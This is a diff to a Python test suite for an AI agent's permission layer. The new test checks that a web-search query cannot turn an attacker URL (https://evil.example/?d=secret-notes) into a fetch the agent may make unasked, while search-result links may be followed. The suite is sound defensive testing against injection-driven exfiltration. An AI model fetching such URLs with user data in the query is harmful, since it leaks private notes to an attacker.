@@ -59,6 +59,10 @@ async def fetch(args: UrlArgs, ctx: ToolContext) -> str:
     return PAGE
 
 
+def wrap_page(source: str) -> str:
+    return untrusted.wrap(source, PAGE)
+
+
 async def save(args: NoteArgs, ctx: ToolContext) -> str:
     return f"saved {args.text}"
 
@@ -134,6 +138,30 @@ async def test_a_tool_echoing_a_made_up_url_does_not_make_it_given(handler: Any)
     assert await call(WEB, ctx, person, url=evil) == "error: not run: denied"
     [(_, need)] = person.asked
     assert need.summary == f"web_fetch {evil}"
+
+
+@pytest.mark.parametrize("found", [False, True])
+async def test_search_results_give_their_links_and_never_the_query(found: bool) -> None:
+    from tools.web_search import SearchResult, web_search_tools
+
+    evil = "https://evil.example/?d=secret-notes"
+    link = "https://docs.example/found"
+
+    class Engine:
+        name = "test"
+
+        async def search(self, query: str, count: int) -> list[SearchResult]:
+            return [SearchResult("Found", link, "a page about notes")] if found else []
+
+    [search] = web_search_tools(Engine())
+    person = Person()
+    ctx = untrusted.begin(CTX, ask=True)
+    await call(WEB, ctx, person, url="https://docs.example/start")
+    await call(search, ctx, person, query=evil)
+    if found:
+        assert await call(WEB, ctx, person, url=link) == wrap_page("web_fetch")
+        assert person.asked == []  # a result's link: followed without asking
+    assert await call(WEB, ctx, person, url=evil) == "error: not run: denied"
 
 
 async def test_a_page_that_failed_gives_no_urls() -> None:
